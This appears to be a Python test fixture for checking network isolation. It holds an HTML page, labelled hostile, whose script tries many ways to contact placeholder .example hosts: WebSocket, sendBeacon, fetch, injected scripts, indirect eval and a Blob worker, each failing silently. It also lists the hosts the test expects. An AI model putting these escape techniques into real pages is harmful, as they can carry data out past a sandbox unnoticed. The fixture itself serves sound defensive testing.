"""A page that tries every way out."""

HOSTILE = b"""<!doctype html><title>Hostile</title>
<link rel="dns-prefetch" href="//prefetched.example">
<link rel="preconnect" href="//connected.example">
<h1>Hostile</h1>
<img src="https://image.example/i.png"><iframe src="https://frame.example/"></iframe>
<script>
const quietly = (ask) => { try { ask() } catch {} };
quietly(() => new WebSocket("wss://socket.example/"));
quietly(() => navigator.sendBeacon("https://beacon.example/", "x"));
quietly(() => fetch("https://fetched.example/").catch(() => 0));
quietly(() => { const s = document.createElement("script"); s.src = "https://script.example/x.js";
                document.head.append(s) });
quietly(() => (0, eval)("new window.WebSocket('ws://evaluated.example/')"));
quietly(() => { new Worker(URL.createObjectURL(new Blob(
  ["fetch('https://worker.example/'); new WebSocket('wss://workersocket.example/')"]))) });
</script>
"""
# Those that are asked for; what is only prefetched or connected to is resolved, no more.
NAMES = ("image", "frame", "script", "fetched", "beacon", "worker")
SOCKETS = ("socket", "evaluated", "workersocket")
HOSTS = {f"{name}.example" for name in (*NAMES, *SOCKETS)}
